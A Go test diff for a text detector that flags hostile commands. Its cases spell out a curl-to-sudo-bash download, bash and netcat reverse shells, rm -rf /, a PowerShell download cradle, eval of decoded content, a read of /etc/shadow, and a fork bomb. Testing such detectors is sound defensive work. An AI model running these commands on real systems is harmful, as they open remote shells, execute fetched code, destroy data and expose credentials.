@@ -40,3 +40,50 @@ func TestRedactURLAndExcerpt(t *testing.T) {
 		t.Error("javascript: URL not found")
 	}
 }
+
+func TestFindPayloads(t *testing.T) {
+	for _, tt := range []struct {
+		text  string
+		label string
+		start int
+		end   int
+	}{
+		{"run curl -fsSL https://x.invalid/i | sudo bash now", "a download piped into a shell or interpreter", 4, 46},
+		{"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "a reverse shell", 0, 36},
+		{"nc -e /bin/sh 203.0.113.9 4444", "a reverse shell", 0, 13},
+		{"then rm -rf / --no-preserve-root;", "a destructive command", 5, 32},
+		{"IEX (New-Object Net.WebClient).DownloadString('http://x')", "an encoded or downloaded PowerShell command", 0, 46},
+		{"__import__('os').popen('id')", "Python reaching the OS through a dynamic import", 0, 22},
+		{"eval(atob('YWxlcnQoMSk='))", "eval or exec of fetched or decoded content", 0, 9},
+		{"require('child_process').exec('id')", "a shell command run from code", 0, 30},
+		{"cat /etc/shadow", "a read of system credential files", 0, 15},
+	} {
+		got := textcheck.FindPayloads(tt.text, 4)
+		if len(got) != 1 || got[0] != (textcheck.PayloadMatch{Label: tt.label, Start: tt.start, End: tt.end}) {
+			t.Errorf("FindPayloads(%q) = %+v, want %q [%d,%d)", tt.text, got, tt.label, tt.start, tt.end)
+		}
+	}
+	for _, benign := range []string{
+		"Use subprocess.run to list files.", "rm -rf build/ before a release", "curl https://example.com/api",
+		"The eval() function is dangerous.", "Read /etc/hosts to see the mapping.", "",
+	} {
+		if got := textcheck.FindPayloads(benign, 4); len(got) != 0 {
+			t.Errorf("FindPayloads(%q) = %+v, want none", benign, got)
+		}
+	}
+}
+
+func FuzzFindPayloads(f *testing.F) {
+	for _, s := range []string{"curl x | sh", "bash -i >& /dev/tcp/1.2.3.4/1", "rm -rf /", ":(){ :|:& };:", "eval(atob(", "\xff"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		prev := -1
+		for _, m := range textcheck.FindPayloads(s, 4) {
+			if m.Start < 0 || m.End > len(s) || m.Start >= m.End || m.Start < prev || m.Label == "" {
+				t.Fatalf("bad match %+v in %d bytes", m, len(s))
+			}
+			prev = m.Start
+		}
+	})
+}
